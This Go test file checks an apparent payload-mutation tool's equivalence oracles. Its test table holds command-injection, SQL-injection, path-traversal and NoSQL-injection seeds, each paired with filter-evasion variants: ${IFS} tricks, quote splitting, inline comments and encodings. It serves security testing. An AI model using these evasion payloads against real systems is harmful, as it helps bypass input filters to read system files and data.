package evasion

import "testing"

// The oracles must accept what the operators produce and refuse what
// changes the attack: a test that could not fail would prove nothing.
func TestOracles(t *testing.T) {
	cases := []struct {
		c            Class
		seed, mutant string
		same         bool
	}{
		{CmdI, "; cat /etc/passwd", "; c\\at /etc/passwd", true},
		{CmdI, "; cat /etc/passwd", `; c""at /e''tc/passwd`, true},
		{CmdI, "; cat /etc/passwd", "; ca${x:-}t$@ /etc/pa$9sswd", true},
		{CmdI, "; cat /etc/passwd", "; cat${IFS}/etc/passwd", true},
		{CmdI, "; cat /etc/passwd", "; cat${IFS:0:1}/etc/passwd", true},
		{CmdI, "; cat /etc/passwd", ";{cat,/etc/passwd}", true},
		{CmdI, "; cat /etc/passwd", "; /b''in/cat /etc/passwd", true},
		{CmdI, "; cat /etc/passwd", "\ncat /etc/passwd", true},
		{CmdI, "; cat /etc/passwd", "; cat /etc/pass", false},
		{CmdI, "; cat /etc/passwd", "; 'cat /etc/passwd'", false},
		{CmdI, "; cat /etc/passwd", "\\; cat /etc/passwd", false},
		{CmdI, "; cat /etc/passwd", "; c${IFS}at /etc/passwd", false},
		{CmdI, "$(id)", "$(i''d)", true},
		{CmdI, "`id`", "$(id)", true},
		{SQLi, "' OR 1=1 -- ", "' OR true -- ", true},
		{SQLi, "' OR 1=1 -- ", "'\vOR\f1=1-- x\n-- ", true},
		{SQLi, "' OR 1=1 -- ", "' /*!50000OR*/ ~0 -- ", true},
		{SQLi, "' OR 1=1 -- ", "' || 1 #", true},
		{SQLi, "' OR 1=1 -- ", `" OR 1=1 -- `, true},
		{SQLi, "' OR 1=1 -- ", "' OR 1=2 -- ", false},
		{SQLi, "' OR 1=1 -- ", "' AND 1=1 -- ", false},
		{SQLi, "' OR 1=1 -- ", "' OR 1=1 --x", false}, // "--x" is no comment: the string is left open
		{SQLi, "1 OR 1=1", "1 OR 1", true},
		{SQLi, "1 OR 1=1", "1 OR 0", false},
		{SQLi, "' UNION SELECT a FROM b -- ", "' UnIoN/**/SELECT a FROM b -- ", true},
		{SQLi, "' UNION SELECT a FROM b -- ", "' UNION SELECT a FROM c -- ", false},
		{Traversal, "../../../../etc/passwd", "..%2f../.././../etc//passwd", true},
		{Traversal, "../../../../etc/passwd", "%2e%2e/../../../etc/passwd", true},
		{Traversal, "../../../../etc/passwd", "../etc/passwd", false},
		{Traversal, "../../../../etc/passwd", "....//....//etc/passwd", false},
		{NoSQLi, `{"u":{"$ne":null}}`, `{"u":{"$nin":[null]}}`, true},
		{NoSQLi, `{"u":{"$ne":null}}`, `{"$and":[{"u":{"$not":{"$eq":null}}}]}`, true},
		{NoSQLi, `{"u":{"$ne":null}}`, `{"u":{"\u0024ne":null}}`, true},
		{NoSQLi, `{"u":{"$ne":null}}`, `{"u":{"$eq":null}}`, false},
		{NoSQLi, `{"u":{"$ne":null}}`, `{"u":{"ne":null}}`, false},
	}
	for _, tc := range cases {
		if !Valid(tc.c, tc.seed) {
			t.Errorf("%s seed %q not valid", tc.c, tc.seed)
			continue
		}
		if got := Same(tc.c, tc.seed, tc.mutant); got != tc.same {
			t.Errorf("%s Same(%q, %q) = %v, want %v", tc.c, tc.seed, tc.mutant, got, tc.same)
		}
	}
}
